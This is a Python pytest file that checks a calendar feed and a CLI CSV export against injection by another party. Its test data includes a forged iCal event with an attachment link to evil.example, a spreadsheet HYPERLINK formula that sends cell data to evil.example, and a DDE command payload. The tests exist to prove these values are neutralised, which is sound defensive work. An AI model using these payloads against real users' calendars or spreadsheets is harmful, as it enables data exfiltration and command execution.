"""Text one party writes that lands in another party's files: the iCal feed and the CLI's CSV lists.

The attacker is a party that invites another to an engagement (or notifies it of an activity) with text
crafted to be read as structure by the victim's calendar client or spreadsheet: bare carriage returns and
other line breaks that end an iCal content line early and start a forged one (an extra event, an alarm,
an attachment), and cells that a spreadsheet runs as a formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detente.cli import main
from detente.cli.output import spreadsheet_safe
from detente.ops import notifications
from detente.ops.auth import load_actor
from detente.ops.ical import CalendarItem, escape, to_ical

from ..conftest import Api, World

FORGED = "END:VEVENT\rBEGIN:VEVENT\rUID:forged@x\rSUMMARY:Talks cancelled\rATTACH:http://evil.example/x"
BREAKS = ["\r", "\n", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
CTL = re.compile(r"[\x00-\x08\x0a-\x1f\x7f]")  # RFC 5545 CONTROL: not allowed in a content line (HTAB is)


def _lines(ics: str) -> list[str]:
    assert ics.endswith("\r\n")
    return ics[:-2].split("\r\n")


@pytest.mark.parametrize("brk", BREAKS)
def test_a_line_break_in_an_invited_engagement_cannot_forge_calendar_lines(api: Api, world: World, brk: str) -> None:
    forged = FORGED.replace("\r", brk)
    r = api.call(
        "POST",
        "/api/ops/engagements",
        "a_officer",
        json={
            "kind": "defense_dialogue",
            "title": "Staff talks" + brk + forged,
            "start_date": "2026-05-04",
            "end_date": "2026-05-05",
            "place": "Vienna" + brk + "RRULE:FREQ=DAILY",
            "objectives": "Agenda" + brk + "BEGIN:VALARM",
            "participants": [world.party["B"]],
        },
    )
    assert r.status_code == 201, r.text
    ics = api.call("GET", "/api/ops/engagements.ics", "b_officer").text
    lines = _lines(ics)
    assert not [x for x in lines if CTL.search(x)]
    # a reader that breaks lines anywhere a text editor would still finds one event and no forged line
    loose = [x for x in re.split(r"\r\n|[\r\n\x0b\x0c\x1c-\x1e\x85\u2028\u2029]", ics) if x]
    unfolded = [x for x in loose if not x.startswith(" ")]
    assert sum(x == "BEGIN:VEVENT" for x in unfolded) == 1
    assert not [x for x in unfolded if x.startswith(("UID:forged", "ATTACH", "RRULE", "BEGIN:VALARM"))]


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_escaped_text_is_one_clean_content_line(s: str) -> None:
    out = escape(s)
    assert not CTL.search(out)
    assert not any(b in out for b in BREAKS)
    day = dt.date(2026, 1, 1)
    ics = to_ical([CalendarItem(uid="u", summary=s, start=day, end=day)], stamp=dt.datetime(2026, 1, 1))
    assert sum(line.startswith("SUMMARY:") for line in _lines(ics)) == 1


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1"]  # fmt: skip


def test_a_csv_list_never_hands_a_spreadsheet_another_partys_formula(
    world: World, ops_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with world.db.session() as s:
        a = load_actor(s, world.user["a_officer"])
        for f in FORMULAS:
            notifications.declare(
                s,
                a,
                {"activity_type": f, "title": f, "area": f, "start_date": dt.date(2030, 6, 1),
                 "end_date": dt.date(2030, 6, 2), "troops": 100},
            )  # fmt: skip
    capsys.readouterr()
    main(["--db", str(tmp_path / "d.duckdb"), "ops", "--ops-url", ops_url, "list", "notifications", "--as",
          "b_officer", "--format", "csv"])  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == len(FORMULAS)
    cells = [v for r in rows for v in r.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert sorted(r["title"] for r in rows) == sorted("'" + f.replace("\r", "\n") for f in FORMULAS)  # kept, made inert


def test_numbers_and_plain_text_stay_as_they_are() -> None:
    assert [spreadsheet_safe(v) for v in (-3, "-3.5", "1e5", "Aland", "", None)] == [
        -3,
        "-3.5",
        "1e5",
        "Aland",
        "",
        None,
    ]
    assert spreadsheet_safe("=1+1") == "'=1+1" and spreadsheet_safe("-1+1") == "'-1+1"
